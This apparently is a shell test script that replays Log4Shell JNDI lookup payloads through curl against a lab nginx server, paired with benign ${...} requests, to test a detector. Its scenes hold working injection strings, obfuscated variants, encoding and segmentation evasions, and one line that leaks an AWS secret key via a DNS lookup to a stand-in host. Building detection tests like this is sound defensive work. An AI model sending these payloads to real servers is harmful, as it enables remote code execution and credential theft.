# SPDX-License-Identifier: GPL-2.0-or-later
# curl against nginx: where in a request a lookup can hide, and requests full of ${...} that are nobody's attack.

http_up() {
    mkdir -p "$WORK/nginx/html" "$WORK/nginx/logs"
    echo hello >"$WORK/nginx/html/index.html"
    mkdir -p "$WORK/nginx/html/board"
    echo '<html><p>From: ${jndi:ldap://10.99.0.1:1389/stored}</p></html>' >"$WORK/nginx/html/board/1.html"
    echo '<html><p>From: ${author.name}, about jndi and ldap://ldap.corp.example</p></html>' >"$WORK/nginx/html/board/2.html"
    sed "s|@WORK@|$WORK|g" "$here/srv/nginx.conf" >"$WORK/nginx/nginx.conf"
    serve in 80 nginx -e "$WORK/nginx/logs/err.log" -c "$WORK/nginx/nginx.conf"
}

# Two writes with a pause between them become two chunks: the lookup is cut in the middle.
chunked_split() {
    { printf 'user=${jndi:ldap:'; sleep 0.2; printf '//10.99.0.1:1389/chunk}&go=1'; } |
        curl_out -H 'Expect:' -X POST -T - http://10.99.0.2/login
}

gzip_body() {
    printf '{"name":"${jndi:ldap://10.99.0.1:1389/gzip}"}' | gzip -n |
        curl_out -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' --data-binary @- http://10.99.0.2/api
}

# Small segments by the receiver's announced maximum segment size, as a slow or narrow path would make them.
small_segments() {
    ip netns exec jndirec-in sysctl -qw net.ipv4.route.min_adv_mss=88
    ip -n jndirec-in route replace 10.99.0.0/24 dev e0 src 10.99.0.2 advmss 88
    curl_out -A '${${lower:j}ndi:${lower:l}dap://10.99.0.1:1389/segments}' http://10.99.0.2/
    ip -n jndirec-in route replace 10.99.0.0/24 dev e0 src 10.99.0.2
}

keepalive() {
    timeout 10 $OUT curl -s -o /dev/null http://10.99.0.2/one --next \
        -s -o /dev/null -H 'X-Api-Version: ${jndi:rmi://10.99.0.1:1099/second}' http://10.99.0.2/two
}

multipart() {
    curl_out -F 'comment=${jndi:ldap://10.99.0.1:1389/part}' -F 'file=@-;filename=a.txt' http://10.99.0.2/upload \
        <<<'plain text'
}

# Codings that curl does not put on by itself; no label at all for the first.
packed() {
    local text=$1
    printf '%s' "$text" | gzip -n | gzip -n | curl_out --data-binary @- http://10.99.0.2/upload
    printf '%s' "$text" | zstd -q -c | curl_out -H 'Content-Encoding: zstd' --data-binary @- http://10.99.0.2/api
    printf '%s' "$text" | /usr/bin/python3 -c 'import brotli, sys; sys.stdout.buffer.write(brotli.compress(sys.stdin.buffer.read()))' |
        curl_out -H 'Content-Encoding: br' -H 'Content-Type: application/json' --data-binary @- http://10.99.0.2/api
}

# A cookie, and a query sent through a proxy: the target is a whole URL.
places() {
    local text=$1
    curl_out -b "theme=dark; sid=$text" http://10.99.0.2/
    curl_out -x http://10.99.0.2:80 -G --data-urlencode "user[name]=$text" http://shop.example/search
    curl_out -H 'Content-Type: application/xml' http://10.99.0.2/api --data-binary \
        "<order><item no=\"1\"/><note><![CDATA[$text]]></note></order>"
    curl_out -F 'a=1' -F "file=@-;filename=$text" http://10.99.0.2/upload <<<'plain text'
}

jvm_post() {
    timeout 60 $OUT java -cp "$WORK/classes" HttpPost http://10.99.0.2/api application/json "$1"
}

# What web applications, templates, shells and configuration servers really send.
templates() {
    curl_out --data-binary @"$here/srv/template.js" -H 'Content-Type: text/javascript' http://10.99.0.2/save
    curl_out --data-binary @"$here/srv/deploy.sh.txt" -H 'Content-Type: text/x-sh' http://10.99.0.2/save
    curl_out --data-binary @"$here/srv/application.properties" -H 'Content-Type: text/plain' http://10.99.0.2/env
    curl_out --data-binary @"$here/srv/log4j2.xml" -H 'Content-Type: application/xml' http://10.99.0.2/config
    curl_out --data-urlencode 'q=${user.name}' --data-urlencode 'path=${base}/${id:-0}' http://10.99.0.2/form
    curl_out -G --data-urlencode 'tpl=Hello ${name}, you owe ${amount:,.2f}' http://10.99.0.2/render
}

# People write about it: the words without the syntax.
talk() {
    curl_out -H 'Content-Type: application/json' http://10.99.0.2/comments --data-binary \
        '{"text":"log4shell: the attacker sends jndi:ldap://host/a inside ${ } and the server calls out. See jndi and ldap."}'
    curl_out -G --data-urlencode 'q=what is jndi:ldap and ${jndi' http://10.99.0.2/search
    curl_out -A 'log4shell-notes/1.0 (ldap rmi dns)' http://10.99.0.2/
}

http_names="http-header http-header-ipv6 http-query-obfuscated http-json-escaped http-form http-chunked http-gzip
    http-small-segments http-keepalive http-multipart http-leak http-packed http-packed-answer http-proxied http-places http-jvm
    benign-http-packed-answer benign-http-proxied benign-http-packed benign-http-places benign-http-jvm benign-http-templates benign-http-talk"
# shellcheck disable=SC2086
if wanted $http_names; then
    http_up
    scene http-header curl_out -A '${jndi:ldap://10.99.0.1:1389/header}' http://10.99.0.2/
    scene http-header-ipv6 curl_out -A '${jndi:ldap://[fd99::1]:1389/header}' 'http://[fd99::2]/'
    scene http-query-obfuscated curl_out -G http://10.99.0.2/search \
        --data-urlencode 'q=${${lower:J}${::-n}d${env:NOPE:-i}:${lower:L}dap://10.99.0.1:1389/query}'
    scene http-json-escaped curl_out -H 'Content-Type: application/json' http://10.99.0.2/api --data-binary \
        '{"user":"\u0024\u007bjndi:ldap:\/\/10.99.0.1:1389\/json\u007d","ok":true}'
    scene http-form curl_out --data-urlencode 'user=${jndi:ldap://10.99.0.1:1389/form}' -d 'pass=x' http://10.99.0.2/login
    scene http-chunked chunked_split
    scene http-gzip gzip_body
    scene http-small-segments small_segments
    scene http-keepalive keepalive
    scene http-multipart multipart
    scene http-leak curl_out -H 'X-Forwarded-For: ${jndi:dns://10.99.0.1/${env:AWS_SECRET_ACCESS_KEY}.leak.example}' \
        http://10.99.0.2/
    scene http-packed packed '{"name":"${jndi:ldap://10.99.0.1:1389/packed}"}'
    scene http-packed-answer curl_out --compressed http://10.99.0.2/board/1.html
    scene benign-http-packed-answer curl_out --compressed http://10.99.0.2/board/2.html
    scene http-proxied curl_out --haproxy-protocol -A '${jndi:ldap://10.99.0.1:1389/proxied}' http://10.99.0.2:81/
    scene benign-http-proxied curl_out --haproxy-protocol -A '${agent:-none}' http://10.99.0.2:81/
    scene http-places places '${jndi:ldap://10.99.0.1:1389/place}'
    scene http-jvm jvm_post '{"user":{"tags":["a","${jndi:ldap://10.99.0.1:1389/jvm}"]}}'
    scene benign-http-packed packed '{"name":"${user.name}","more":"${a:-b} jndi"}'
    scene benign-http-places places '${user.name:-nobody}'
    scene benign-http-jvm jvm_post '{"user":{"tags":["a","${tag:none}"]}}'
    scene benign-http-templates templates
    scene benign-http-talk talk
    stop_servers
fi
